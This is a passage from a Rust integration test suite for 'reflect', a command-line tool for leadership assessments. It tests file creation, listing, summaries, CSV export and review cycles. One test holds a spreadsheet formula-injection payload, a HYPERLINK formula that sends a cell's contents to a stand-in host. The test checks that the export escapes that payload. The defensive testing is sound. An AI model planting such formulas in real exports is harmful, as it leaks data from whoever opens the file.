//! The `reflect` binary run as a user would, always against a temporary home
//! (`--home`, with `REFLECT_HOME` removed) so a real home is never touched.
//! Standard input is never a terminal here, so the app itself never starts.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use jiff::civil::date;
use reflect::format::framework as bundled;
use reflect::model::assessment::RaterRole;
use reflect::model::{Assessment, Framework, Rating};
use reflect::store::{self, Home};

mod support;
use support::parse_csv;

fn reflect_in(home: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_reflect"))
        .arg("--home")
        .arg(home)
        .args(args)
        .env_remove("REFLECT_HOME")
        .env_remove("COLUMNS")
        .stdin(Stdio::null())
        .output()
        .expect("run reflect")
}

fn stdout(o: &Output) -> String {
    String::from_utf8(o.stdout.clone()).expect("stdout is UTF-8")
}

fn stderr(o: &Output) -> String {
    String::from_utf8(o.stderr.clone()).expect("stderr is UTF-8")
}

#[track_caller]
fn assert_ok(o: &Output) {
    assert!(
        o.status.success(),
        "status {:?}\nstdout:\n{}\nstderr:\n{}",
        o.status,
        stdout(o),
        stderr(o)
    );
}

fn framework(id: &str) -> Framework {
    bundled::by_id(id)
        .expect("bundled frameworks parse")
        .expect("framework is bundled")
}

fn pairs(fw: &Framework) -> usize {
    fw.themes.iter().map(|t| fw.assessable_count(t)).sum()
}

/// `reflect new` in `home`; the path it printed.
fn create(home: &Path, framework: &str, name: &str) -> PathBuf {
    let o = reflect_in(
        home,
        &[
            "new",
            "--framework",
            framework,
            "--name",
            name,
            "--role",
            "Director of Place",
        ],
    );
    assert_ok(&o);
    let out = stdout(&o);
    let path = PathBuf::from(out.trim_end_matches('\n'));
    assert_eq!(out.lines().count(), 1, "one line, the path: {out:?}");
    path
}

/// `PATH:LINE:COL: message` with the given path and line.
#[track_caller]
fn assert_located(err: &str, path: &Path, line: usize) {
    let prefix = format!("{}:{line}:", path.display());
    let rest = err
        .strip_prefix(&prefix)
        .unwrap_or_else(|| panic!("stderr should start with {prefix:?}: {err:?}"));
    let (col, message) = rest.split_once(": ").expect("COL: message");
    assert!(col.parse::<usize>().is_ok(), "column is a number: {err:?}");
    assert!(!message.trim().is_empty());
}

/// An assessment with a missing comma on line 6.
const BROKEN: &str = r#"(
  schema: 1,
  framework: (id: "senior-leadership", version: "2025.1"),
  person: (name: "Sam Broken"),
  reviews: [
    (title: "2026 review", date: "2026-01-01" marks: {}),
  ],
)
"#;

#[test]
fn help_lists_the_commands() {
    let home = tempfile::tempdir().unwrap();
    let o = reflect_in(home.path(), &["--help"]);
    assert_ok(&o);
    let out = stdout(&o);
    for command in ["new", "frameworks", "list", "summary", "export", "review"] {
        assert!(
            out.lines().any(|l| l.trim_start().starts_with(command)),
            "--help lists `{command}`:\n{out}"
        );
    }
    assert!(out.contains("--home"));
}

#[test]
fn frameworks_lists_both_with_their_theme_counts() {
    let home = tempfile::tempdir().unwrap();
    let o = reflect_in(home.path(), &["frameworks"]);
    assert_ok(&o);
    let out = stdout(&o);
    for (id, themes) in [("senior-leadership", 8), ("chief-executives", 7)] {
        let line = out
            .lines()
            .find(|l| l.starts_with(&format!("{id} ")))
            .unwrap_or_else(|| panic!("no line for {id}:\n{out}"));
        // The last three columns: themes, standards, (standard, stage) pairs.
        let numbers: Vec<&str> = line.split_whitespace().rev().take(3).collect();
        let fw = framework(id);
        assert_eq!(
            numbers,
            [
                pairs(&fw).to_string(),
                fw.standard_count().to_string(),
                themes.to_string()
            ],
            "{line}"
        );
        assert!(line.contains(&fw.title), "{line}");
    }
}

#[test]
fn new_creates_a_file_in_the_home_and_list_shows_it() {
    let home = tempfile::tempdir().unwrap();
    let path = create(home.path(), "senior-leadership", "Sam Jones");
    assert!(path.is_file(), "{} exists", path.display());
    assert_eq!(
        path.parent(),
        Some(home.path().join("assessments").as_path())
    );

    let o = reflect_in(home.path(), &["list"]);
    assert_ok(&o);
    let out = stdout(&o);
    let name = path.file_name().unwrap().to_str().unwrap();
    let line = out
        .lines()
        .find(|l| l.starts_with(name))
        .unwrap_or_else(|| panic!("list shows {name}:\n{out}"));
    assert!(line.contains("Sam Jones  Director of Place"), "{line}");
    assert!(line.contains("senior-leadership"), "{line}");
    let total = pairs(&framework("senior-leadership"));
    assert!(line.contains(&format!(" 0/{total} ")), "{line}");
}

#[test]
fn new_normalises_the_name_so_an_accent_typed_either_way_is_one_name() {
    use unicode_normalization::UnicodeNormalization;
    let home = tempfile::tempdir().unwrap();
    let decomposed = "Sia\u{302}n Jones";
    let composed = "Si\u{e2}n Jones";
    assert_ne!(decomposed, composed);
    let first = create(home.path(), "senior-leadership", decomposed);
    assert_eq!(first.file_name().unwrap(), "si\u{e2}n-jones.ron");
    let stored = store::load_assessment(&first).unwrap().person.name;
    assert_eq!(stored, composed, "the name is kept in NFC");
    assert_eq!(stored.nfc().collect::<String>(), stored);
    // The same name typed the other way is the same name: the next free file.
    let second = create(home.path(), "senior-leadership", composed);
    assert_eq!(second.file_name().unwrap(), "si\u{e2}n-jones-2.ron");
}

#[test]
fn new_refuses_a_file_name_too_long_for_its_side_files() {
    let home = tempfile::tempdir().unwrap();
    let dir = home.path().join("elsewhere");
    std::fs::create_dir(&dir).unwrap();
    // 204 bytes: a valid name, but `.NAME.conflict-TIME.ron` and the
    // temporary files of rescue copies would pass 255.
    let long = dir.join(format!("{}.ron", "\u{e9}".repeat(100)));
    let o = reflect_in(
        home.path(),
        &[
            "new",
            "--framework",
            "senior-leadership",
            "--name",
            "Sam",
            "--file",
            long.to_str().unwrap(),
        ],
    );
    assert!(!o.status.success(), "{}", stdout(&o));
    let err = stderr(&o);
    assert!(
        err.contains(&long.display().to_string()),
        "names the path: {err}"
    );
    assert!(err.contains("too long"), "{err}");
    assert!(err.contains("255"), "{err}");
    assert_eq!(
        std::fs::read_dir(&dir).unwrap().count(),
        0,
        "nothing created"
    );

    // The longest name that leaves room is taken.
    let longest = dir.join(format!("{}.ron", "a".repeat(172)));
    let o = reflect_in(
        home.path(),
        &[
            "new",
            "--framework",
            "senior-leadership",
            "--name",
            "Sam",
            "--file",
            longest.to_str().unwrap(),
        ],
    );
    assert_ok(&o);
    assert!(longest.is_file());
}

#[test]
fn list_of_an_empty_home_says_how_to_start() {
    let home = tempfile::tempdir().unwrap();
    let o = reflect_in(home.path(), &["list"]);
    assert_ok(&o);
    let out = stdout(&o);
    assert!(out.contains("reflect new"), "{out}");
}

#[test]
fn list_shows_a_broken_file_with_its_error() {
    let home = tempfile::tempdir().unwrap();
    create(home.path(), "chief-executives", "Jo");
    std::fs::write(home.path().join("assessments/broken.ron"), BROKEN).unwrap();
    let o = reflect_in(home.path(), &["list"]);
    assert_ok(&o);
    let out = stdout(&o);
    let line = out
        .lines()
        .find(|l| l.starts_with("broken.ron"))
        .unwrap_or_else(|| panic!("broken file is listed:\n{out}"));
    assert!(line.contains("line 6"), "{line}");
    assert!(out.lines().any(|l| l.starts_with("jo")), "{out}");
}

#[test]
fn summary_shows_every_theme() {
    let home = tempfile::tempdir().unwrap();
    let path = create(home.path(), "senior-leadership", "Sam Jones");
    let o = reflect_in(home.path(), &["summary", path.to_str().unwrap()]);
    assert_ok(&o);
    let out = stdout(&o);
    let fw = framework("senior-leadership");
    assert!(out.starts_with("Sam Jones, Director of Place\n"), "{out}");
    assert!(out.contains(&fw.title));
    for theme in &fw.themes {
        assert!(
            out.contains(&theme.title),
            "summary shows {:?}:\n{out}",
            theme.title
        );
    }
    for stage in &fw.stages {
        assert!(
            out.contains(&stage.name),
            "summary shows {:?}:\n{out}",
            stage.name
        );
    }
}

#[test]
fn summary_and_export_find_a_bare_name_in_the_home() {
    let home = tempfile::tempdir().unwrap();
    let path = create(home.path(), "chief-executives", "Jo");
    let name = path.file_name().unwrap().to_str().unwrap();
    let o = reflect_in(home.path(), &["summary", name]);
    assert_ok(&o);
    assert!(stdout(&o).starts_with("Jo, Director of Place\n"));
    let stem = name.trim_end_matches(".ron");
    let o = reflect_in(home.path(), &["export", stem, "--format", "csv"]);
    assert_ok(&o);
    assert!(stdout(&o).starts_with("framework,"));
}

#[test]
fn export_csv_has_a_row_per_standard_and_stage() {
    let home = tempfile::tempdir().unwrap();
    for id in ["senior-leadership", "chief-executives"] {
        let path = create(home.path(), id, &format!("Person {id}"));
        // CSV is the default format.
        let o = reflect_in(home.path(), &["export", path.to_str().unwrap()]);
        assert_ok(&o);
        let rows = parse_csv(&stdout(&o));
        assert_eq!(
            rows[0],
            [
                "framework",
                "theme",
                "stage",
                "standard_id",
                "standard",
                "origin",
                "level",
                "label",
                "note",
                "private",
                "carried",
                "agreed_level",
                "agreed_label",
                "session_note",
                "next_step",
                "person",
                "role",
                "review"
            ]
        );
        let fw = framework(id);
        assert_eq!(rows.len(), 1 + pairs(&fw), "{id}");
        let person = format!("Person {id}");
        assert!(
            rows[1..]
                .iter()
                .all(|r| r.len() == 18 && r[0] == id && r[6].is_empty() && r[15] == person)
        );
    }
}

#[test]
fn export_to_a_file_is_private_and_matches_stdout() {
    let home = tempfile::tempdir().unwrap();
    let path = create(home.path(), "senior-leadership", "Sam");
    let out = home.path().join("sam.csv");
    let o = reflect_in(
        home.path(),
        &[
            "export",
            path.to_str().unwrap(),
            "--format",
            "csv",
            "--output",
            out.to_str().unwrap(),
        ],
    );
    assert_ok(&o);
    let written = std::fs::read_to_string(&out).unwrap();
    let o = reflect_in(
        home.path(),
        &["export", path.to_str().unwrap(), "--format", "csv"],
    );
    assert_eq!(written, stdout(&o));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&out).unwrap().permissions().mode();
        assert_eq!(mode & 0o077, 0, "export is private: {mode:o}");
    }
}

/// An assessment whose first standard's note at its first stage is `note`,
/// with that standard's id and stage.
fn with_first_note(home: &Path, note: &str) -> (PathBuf, String, String) {
    let path = create(home, "senior-leadership", "Sam Formula");
    let fw = framework("senior-leadership");
    let (_, standard) = fw.standards().next().expect("a standard");
    let stage = fw.stages_of(standard).next().expect("a stage");
    edit(&path, |a| {
        let mark = a.current_mut().mark_mut(&standard.id, &stage.id);
        mark.rating = Rating::Level(2);
        mark.note = note.to_owned();
    });
    (path, standard.id.clone(), stage.name.clone())
}

/// The `note` field of the row for `standard` at `stage`.
fn note_of(rows: &[Vec<String>], standard: &str, stage: &str) -> String {
    let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
    rows[1..]
        .iter()
        .find(|r| r[col("standard_id")] == standard && r[col("stage")] == stage)
        .expect("the row")[col("note")]
    .clone()
}

#[test]
fn export_guards_a_formula_unless_raw() {
    let home = tempfile::tempdir().unwrap();
    let formula = "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"Click\")";
    let (path, id, stage) = with_first_note(home.path(), formula);
    let p = path.to_str().unwrap();

    let o = reflect_in(home.path(), &["export", p, "--format", "csv"]);
    assert_ok(&o);
    let rows = parse_csv(&stdout(&o));
    assert_eq!(note_of(&rows, &id, &stage), format!("'{formula}"));

    // The same guard in a file written with --output.
    let out = home.path().join("out.csv");
    let o = reflect_in(
        home.path(),
        &[
            "export",
            p,
            "--format",
            "csv",
            "--output",
            out.to_str().unwrap(),
        ],
    );
    assert_ok(&o);
    let rows = parse_csv(&std::fs::read_to_string(&out).unwrap());
    assert_eq!(note_of(&rows, &id, &stage), format!("'{formula}"));

    let o = reflect_in(home.path(), &["export", p, "--format", "csv", "--raw"]);
    assert_ok(&o);
    let rows = parse_csv(&stdout(&o));
    assert_eq!(note_of(&rows, &id, &stage), formula);
}

#[test]
fn export_bom_starts_with_a_byte_order_mark() {
    let home = tempfile::tempdir().unwrap();
    let (path, id, stage) = with_first_note(home.path(), "Siân's note, with an accent");
    let p = path.to_str().unwrap();
    let plain = reflect_in(home.path(), &["export", p, "--format", "csv"]);
    assert_ok(&plain);
    assert!(!plain.stdout.starts_with(b"\xEF\xBB\xBF"));
    let o = reflect_in(home.path(), &["export", p, "--format", "csv", "--bom"]);
    assert_ok(&o);
    assert_eq!(o.stdout[..3], *b"\xEF\xBB\xBF");
    assert_eq!(o.stdout[3..], plain.stdout[..]);
    let rows = parse_csv(&stdout(&o));
    assert_eq!(
        rows[0][0], "framework",
        "the mark is not part of the first cell"
    );
    assert_eq!(note_of(&rows, &id, &stage), "Siân's note, with an accent");

    let out = home.path().join("bom.csv");
    let o = reflect_in(
        home.path(),
        &[
            "export",
            p,
            "--format",
            "csv",
            "--bom",
            "--output",
            out.to_str().unwrap(),
        ],
    );
    assert_ok(&o);
    assert!(std::fs::read(&out).unwrap().starts_with(b"\xEF\xBB\xBF"));
}

#[test]
fn export_refuses_to_overwrite_the_assessment() {
    let home = tempfile::tempdir().unwrap();
    let path = create(home.path(), "senior-leadership", "Sam");
    let before = std::fs::read_to_string(&path).unwrap();
    let p = path.to_str().unwrap();
    let o = reflect_in(
        home.path(),
        &["export", p, "--format", "csv", "--output", p],
    );
    assert!(!o.status.success());
    assert_eq!(std::fs::read_to_string(&path).unwrap(), before);
}

#[test]
fn export_without_a_known_format_is_a_usage_error() {
    let home = tempfile::tempdir().unwrap();
    let path = create(home.path(), "senior-leadership", "Sam");
    let o = reflect_in(
        home.path(),
        &["export", path.to_str().unwrap(), "--format", "pdf"],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("csv"), "{}", stderr(&o));
}

#[test]
fn a_parse_error_is_located_and_exits_2() {
    let home = tempfile::tempdir().unwrap();
    let path = home.path().join("broken.ron");
    std::fs::write(&path, BROKEN).unwrap();
    for command in [&["summary"][..], &["export", "--format", "csv"]] {
        let mut args = command.to_vec();
        args.insert(1, path.to_str().unwrap());
        let o = reflect_in(home.path(), &args);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
        assert!(o.stdout.is_empty());
        assert_located(&stderr(&o), &path, 6);
    }
}

#[test]
fn opening_a_broken_file_exits_2_before_the_terminal() {
    let home = tempfile::tempdir().unwrap();
    let path = home.path().join("broken.ron");
    std::fs::write(&path, BROKEN).unwrap();
    let o = reflect_in(home.path(), &[path.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(o.stdout.is_empty(), "nothing drawn: {:?}", stdout(&o));
    assert_located(&stderr(&o), &path, 6);
    assert!(!stderr(&o).contains('\x1b'), "no escape sequences");
}

#[test]
fn opening_a_missing_file_exits_2() {
    let home = tempfile::tempdir().unwrap();
    let path = home.path().join("nowhere.ron");
    let o = reflect_in(home.path(), &[path.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).starts_with(&path.display().to_string()));
}

#[test]
fn a_file_and_a_command_together_are_refused() {
    let home = tempfile::tempdir().unwrap();
    let o = reflect_in(home.path(), &["some.ron", "list"]);
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn unknown_framework_lists_the_known_ids() {
    let home = tempfile::tempdir().unwrap();
    let o = reflect_in(
        home.path(),
        &["new", "--framework", "nope", "--name", "Sam"],
    );
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert!(err.contains("nope"), "{err}");
    assert!(
        err.contains("senior-leadership") && err.contains("chief-executives"),
        "{err}"
    );
    assert!(
        !home.path().join("assessments").exists()
            || std::fs::read_dir(home.path().join("assessments"))
                .unwrap()
                .next()
                .is_none()
    );
}

#[test]
fn home_flag_overrides_the_environment() {
    let flag = tempfile::tempdir().unwrap();
    let env = tempfile::tempdir().unwrap();
    let run = |args: &[&str], with_flag: bool| {
        let mut c = Command::new(env!("CARGO_BIN_EXE_reflect"));
        if with_flag {
            c.arg("--home").arg(flag.path());
        }
        c.args(args)
            .env("REFLECT_HOME", env.path())
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let new = ["new", "--framework", "senior-leadership", "--name", "Sam"];
    let o = run(&new, true);
    assert_ok(&o);
    assert!(
        stdout(&o).starts_with(&flag.path().display().to_string()),
        "{}",
        stdout(&o)
    );
    let o = run(&new, false);
    assert_ok(&o);
    assert!(
        stdout(&o).starts_with(&env.path().display().to_string()),
        "{}",
        stdout(&o)
    );
}

#[test]
fn a_rating_and_a_multiline_note_round_trip_to_export_and_summary() {
    let home = tempfile::tempdir().unwrap();
    let path = create(home.path(), "senior-leadership", "Sam Jones");
    let fw = framework("senior-leadership");
    let (theme, standard) = fw.standards().nth(1).expect("a standard");
    let stage = fw.stages_of(standard).last().expect("a stage");
    let note = "Led the \"place\" board, twice.\nSecond line, with a comma\n  indented third line";

    let mut assessment = store::load_assessment(&path).expect("load");
    let mark = assessment.current_mut().mark_mut(&standard.id, &stage.id);
    mark.rating = Rating::Level(3);
    mark.note = note.to_owned();
    store::save_assessment(&path, &assessment).expect("save");

    let o = reflect_in(
        home.path(),
        &["export", path.to_str().unwrap(), "--format", "csv"],
    );
    assert_ok(&o);
    let text = stdout(&o);
    assert!(text.contains(
        "\"Led the \"\"place\"\" board, twice.\nSecond line, with a comma\n  indented third line\""
    ));
    let rows = parse_csv(&text);
    assert_eq!(rows.len(), 1 + pairs(&fw));
    let rated: Vec<&Vec<String>> = rows[1..].iter().filter(|r| !r[6].is_empty()).collect();
    assert_eq!(rated.len(), 1, "one rated row");
    let row = rated[0];
    assert_eq!(row[0], fw.id);
    assert_eq!(row[1], theme.title);
    assert_eq!(row[2], stage.name);
    assert_eq!(row[3], standard.id);
    assert_eq!(row[4], standard.text);
    assert_eq!(row[5], standard.origin.label());
    assert_eq!(row[6], "3");
    assert_eq!(row[7], fw.level(3).expect("level 3 on the scale").label);
    assert_eq!(row[8], note);

    let o = reflect_in(home.path(), &["summary", path.to_str().unwrap()]);
    assert_ok(&o);
    let out = stdout(&o);
    let total = out
        .lines()
        .find(|l| l.starts_with("Total "))
        .unwrap_or_else(|| panic!("a total row:\n{out}"));
    assert!(total.contains(&format!(" 1/{} ", pairs(&fw))), "{total}");
    assert!(total.ends_with("3.0"), "{total}");
    let theme_line = out
        .lines()
        .find(|l| l.starts_with(&theme.title))
        .unwrap_or_else(|| panic!("a row for {}:\n{out}", theme.title));
    assert!(
        theme_line.contains(&format!(" 1/{} ", fw.assessable_count(theme))),
        "{theme_line}"
    );
}

// ------------------------------------------------------------ review cycles

/// Change the assessment at `path` with library calls, as the app would.
fn edit(path: &Path, change: impl FnOnce(&mut Assessment)) {
    let mut a = store::load_assessment(path).expect("load");
    change(&mut a);
    store::save_assessment(path, &a).expect("save");
}

/// The first two standards of the senior leadership framework, at its first stage.
fn two_pairs() -> [(String, String); 2] {
    let fw = framework("senior-leadership");
    let stage = fw.stages[0].id.clone();
    let theme = &fw.themes[0];
    assert!(theme.standards[..2].iter().all(|s| s.stage.is_none()));
    [0, 1].map(|i| (theme.standards[i].id.clone(), stage.clone()))
}

/// An assessment with a closed first review (levels 2 and 3, a note) and a
/// current second one where the first pair went up to 4 and a coach rated it 2.
fn two_reviews(home: &Path) -> PathBuf {
    let path = create(home, "senior-leadership", "Sam Jones");
    let [(s1, st1), (s2, st2)] = two_pairs();
    edit(&path, |a| {
        let r = a.current_mut();
        r.title = "2026 mid-year".into();
        r.date = date(2026, 5, 1);
        r.set_rating(&s1, &st1, Rating::Level(2)).unwrap();
        r.set_note(&s1, &st1, "first note").unwrap();
        r.set_rating(&s2, &st2, Rating::Level(3)).unwrap();
    });
    let o = reflect_in(
        home,
        &[
            "review",
            "start",
            path.to_str().unwrap(),
            "--title",
            "2027 annual",
            "--date",
            "2026-11-02",
        ],
    );
    assert_ok(&o);
    edit(&path, |a| {
        let r = a.current_mut();
        r.set_rating(&s1, &st1, Rating::Level(4)).unwrap();
        let coach = r.add_rater("Pat Lee", RaterRole::Coach).unwrap();
        r.set_view_rating(&s1, &st1, &coach, Rating::Level(2))
            .unwrap();
        r.set_view_note(&s1, &st1, &coach, "Less sure, \"really\"")
            .unwrap();
        r.set_agreed(&s1, &st1, Rating::Level(3)).unwrap();
        r.set_next_step(&s1, &st1, "Chair the board").unwrap();
        r.set_note(&s1, &st1, "private, second note").unwrap();
        r.set_private(&s1, &st1, true).unwrap();
    });
    path
}

#[test]
fn review_start_closes_the_current_review_and_carries_levels() {
    let home = tempfile::tempdir().unwrap();
    let path = create(home.path(), "senior-leadership", "Sam Jones");
    let [(s1, st1), (s2, st2)] = two_pairs();
    edit(&path, |a| {
        let r = a.current_mut();
        r.title = "2026 mid-year".into();
        r.date = date(2026, 5, 1);
        r.set_rating(&s1, &st1, Rating::Level(2)).unwrap();
        r.set_note(&s1, &st1, "first note").unwrap();
        r.set_note(&s2, &st2, "a note alone").unwrap();
    });
    let o = reflect_in(
        home.path(),
        &[
            "review",
            "start",
            path.to_str().unwrap(),
            "--title",
            " 2027 annual ",
            "--date",
            "2026-11-02",
        ],
    );
    assert_ok(&o);
    assert_eq!(
        stdout(&o),
        "Started review 2 \"2027 annual\", 2026-11-02.\n\
         Review 1 \"2026 mid-year\" is closed on 2026-11-02: it is read-only from now on.\n\
         1 rating carried forward, marked as carried until changed.\n"
    );
    let a = store::load_assessment(&path).unwrap();
    assert_eq!(a.reviews.len(), 2);
    assert_eq!(a.reviews[0].frozen, Some(date(2026, 11, 2)));
    assert_eq!(a.reviews[0].mark(&s1, &st1).unwrap().note, "first note");
    let carried = a.current().mark(&s1, &st1).unwrap();
    assert_eq!((carried.rating, carried.carried), (Rating::Level(2), true));
    assert!(carried.note.is_empty(), "notes stay in the earlier review");
    assert_eq!(a.current().mark(&s2, &st2), None);
    assert_eq!(
        (a.current().title.as_str(), a.current().date),
        ("2027 annual", date(2026, 11, 2))
    );
    // The closed review went to a file of its own, named in the assessment.
    assert_eq!(a.earlier.len(), 1);
    assert_eq!(a.earlier[0].file, "sam-jones.reviews/01-2026-05-01.ron");
    assert!(
        path.with_file_name("sam-jones.reviews/01-2026-05-01.ron")
            .is_file()
    );
    // Its title still counts, though it is no longer in the assessment file.
    let again = reflect_in(
        home.path(),
        &[
            "review",
            "start",
            path.to_str().unwrap(),
            "-t",
            "2026 MID-YEAR",
        ],
    );
    assert_eq!(again.status.code(), Some(2), "{}", stderr(&again));
    assert!(
        stderr(&again).contains("already a review called"),
        "{}",
        stderr(&again)
    );
}

#[test]
fn review_start_without_a_date_is_dated_today() {
    let home = tempfile::tempdir().unwrap();
    let path = create(home.path(), "chief-executives", "Jo");
    let o = reflect_in(
        home.path(),
        &["review", "start", path.to_str().unwrap(), "-t", "Next"],
    );
    assert_ok(&o);
    let a = store::load_assessment(&path).unwrap();
    let today = jiff::Zoned::now().date();
    // Allow for the test running across midnight.
    assert!(
        [today, today.yesterday().unwrap()].contains(&a.current().date),
        "{:?}",
        a.current().date
    );
    assert_eq!(a.reviews[0].frozen, Some(a.current().date));
}

#[test]
fn review_start_refusals_leave_the_file_alone() {
    let home = tempfile::tempdir().unwrap();
    let path = create(home.path(), "senior-leadership", "Sam");
    edit(&path, |a| {
        a.current_mut().title = "2026 mid-year".into();
        a.current_mut().date = date(2026, 5, 1);
    });
    let before = std::fs::read_to_string(&path).unwrap();
    let p = path.to_str().unwrap();
    for (args, message) in [
        (vec!["--title", "  "], "needs a title"),
        (vec!["--title", "2026 MID-YEAR"], "already a review called"),
        (
            vec!["--title", "Older", "--date", "2026-04-30"],
            "before the review it follows (2026-05-01)",
        ),
        (vec!["--title", "Bad", "--date", "31/03/2027"], "YYYY-MM-DD"),
    ] {
        let mut all = vec!["review", "start", p];
        all.extend(args.iter().copied());
        let o = reflect_in(home.path(), &all);
        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stderr(&o));
        assert!(stderr(&o).contains(message), "{args:?}: {}", stderr(&o));
        assert_eq!(std::fs::read_to_string(&path).unwrap(), before, "{args:?}");
    }
}

#[test]
fn review_start_refuses_a_file_open_elsewhere() {
    let home = tempfile::tempdir().unwrap();
    let path = create(home.path(), "senior-leadership", "Sam");
    let before = std::fs::read_to_string(&path).unwrap();
    let held = store::open(&Home::at(home.path()), &path).expect("open");
    assert!(held.holds_lock());
    let o = reflect_in(
        home.path(),
        &["review", "start", path.to_str().unwrap(), "--title", "Next"],
    );
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("another reflect has it open"),
        "{}",
        stderr(&o)
    );
    drop(held);
    assert_eq!(std::fs::read_to_string(&path).unwrap(), before);
}

#[test]
fn review_list_numbers_the_reviews() {
    let home = tempfile::tempdir().unwrap();
    let path = two_reviews(home.path());
    let total = pairs(&framework("senior-leadership"));
    let o = reflect_in(home.path(), &["review", "list", path.to_str().unwrap()]);
    assert_ok(&o);
    let w = total.to_string().len();
    let expected = format!(
        "#  TITLE          OPENED      CLOSED      {rated:>rw$}  MEAN  RATERS\n\
         1  2026 mid-year  2026-05-01  2026-11-02  {a:>rw$}   2.5\n\
         2  2027 annual    2026-11-02  current     {b:>rw$}   3.5  Pat Lee (coach)\n",
        rated = "RATED",
        a = format!("2/{total}"),
        b = format!("2/{total}"),
        rw = (2 + w).max(5),
    );
    assert_eq!(stdout(&o), expected);
}

#[test]
fn summary_of_an_earlier_review() {
    let home = tempfile::tempdir().unwrap();
    let path = two_reviews(home.path());
    let p = path.to_str().unwrap();
    let total = pairs(&framework("senior-leadership"));
    let o = reflect_in(home.path(), &["summary", p, "--review", "1"]);
    assert_ok(&o);
    let out = stdout(&o);
    assert!(
        out.contains("\nReview 1 of 2: 2026 mid-year, opened 2026-05-01, closed 2026-11-02\n\n"),
        "{out}"
    );
    let total_line = out.lines().find(|l| l.starts_with("Total ")).unwrap();
    assert!(
        total_line.ends_with(&format!("2/{total}  2.5")),
        "{total_line}"
    );

    let o = reflect_in(home.path(), &["summary", p]);
    assert_ok(&o);
    let out = stdout(&o);
    assert!(
        out.contains("\nReview 2 of 2: 2027 annual, opened 2026-11-02\nRating: Sam Jones (self), Pat Lee (coach)\n"),
        "{out}"
    );
    assert!(
        out.contains("no level agreed yet): 0; discussed, a level agreed: 1."),
        "{out}"
    );
    assert_eq!(
        out,
        stdout(&reflect_in(home.path(), &["summary", p, "--review", "2"]))
    );

    for bad in ["0", "3"] {
        let o = reflect_in(home.path(), &["summary", p, "--review", bad]);
        assert_eq!(o.status.code(), Some(2), "{bad}");
        assert!(stderr(&o).contains("1 to 2"), "{}", stderr(&o));
        assert!(o.stdout.is_empty());
    }
}

#[test]
fn summary_compare_shows_what_moved() {
    let home = tempfile::tempdir().unwrap();
    let path = two_reviews(home.path());
    let p = path.to_str().unwrap();
    let fw = framework("senior-leadership");
    let [(s1, _), (s2, _)] = two_pairs();
    let o = reflect_in(home.path(), &["summary", p, "--compare"]);
    assert_ok(&o);
    let out = stdout(&o);
    assert!(
        out.contains(
            "\nReview 2 of 2: 2027 annual, opened 2026-11-02\n\
             compared with review 1: 2026 mid-year, opened 2026-05-01, closed 2026-11-02\n"
        ),
        "{out}"
    );
    let stage = &fw.stages[0].name;
    // The first theme's first stage: 2 and 3 before, 4 and 3 now.
    let first_theme = out
        .lines()
        .skip_while(|l| *l != fw.themes[0].title)
        .nth(1)
        .unwrap();
    let cells: Vec<&str> = first_theme.split_whitespace().collect();
    assert_eq!(cells[..stage.split_whitespace().count()].join(" "), *stage);
    let n = fw.themes[0]
        .standards
        .iter()
        .filter(|s| fw.stages_of(s).any(|st| st.id == fw.stages[0].id))
        .count();
    assert_eq!(
        cells[stage.split_whitespace().count()..],
        [
            format!("2/{n}").as_str(),
            &format!("2/{n}"),
            "0",
            "2.5",
            "3.5",
            "+1.0"
        ]
    );
    assert!(out.contains("1 up, 0 down, 0 new, 0 dropped"), "{out}");
    let rows: Vec<&str> = out
        .lines()
        .filter(|l| l.starts_with(&format!("  {s1} ")))
        .collect();
    assert!(rows[0].contains("  2    4  up 2  "), "{rows:?}");
    let all = out.lines().filter(|l| l.starts_with("  sl.")).count();
    assert_eq!(all, pairs(&fw), "every standard and stage is listed");

    let o = reflect_in(home.path(), &["summary", p, "--compare", "--changed-only"]);
    assert_ok(&o);
    let out = stdout(&o);
    let listed: Vec<&str> = out.lines().filter(|l| l.starts_with("  sl.")).collect();
    assert_eq!(listed.len(), 1, "{out}");
    assert!(listed[0].starts_with(&format!("  {s1} ")));
    assert!(!out.contains(&format!("  {s2} ")), "{out}");

    // Review 2 compared explicitly is the same; review 1 has nothing before it.
    let o = reflect_in(home.path(), &["summary", p, "--compare", "--review", "2"]);
    assert_ok(&o);
    let o = reflect_in(home.path(), &["summary", p, "--compare", "--review", "1"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("is the first review"), "{}", stderr(&o));
    // --changed-only means nothing without --compare.
    let o = reflect_in(home.path(), &["summary", p, "--changed-only"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("--compare"), "{}", stderr(&o));
}

#[test]
fn summary_compare_of_a_single_review_is_refused() {
    let home = tempfile::tempdir().unwrap();
    let path = create(home.path(), "senior-leadership", "Sam");
    let o = reflect_in(
        home.path(),
        &["summary", path.to_str().unwrap(), "--compare"],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("reflect review start"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn export_has_columns_for_raters_the_agreed_level_and_flags() {
    let home = tempfile::tempdir().unwrap();
    let path = two_reviews(home.path());
    let p = path.to_str().unwrap();
    let [(s1, _), (s2, _)] = two_pairs();
    let o = reflect_in(home.path(), &["export", p, "--format", "csv"]);
    assert_ok(&o);
    let rows = parse_csv(&stdout(&o));
    assert_eq!(
        rows[0][9..],
        [
            "private",
            "carried",
            "coach_level",
            "coach_label",
            "coach_note",
            "agreed_level",
            "agreed_label",
            "session_note",
            "next_step",
            "person",
            "role",
            "review"
        ]
    );
    let fw = framework("senior-leadership");
    let first = &rows[1];
    assert_eq!(
        (first[3].as_str(), first[2].as_str()),
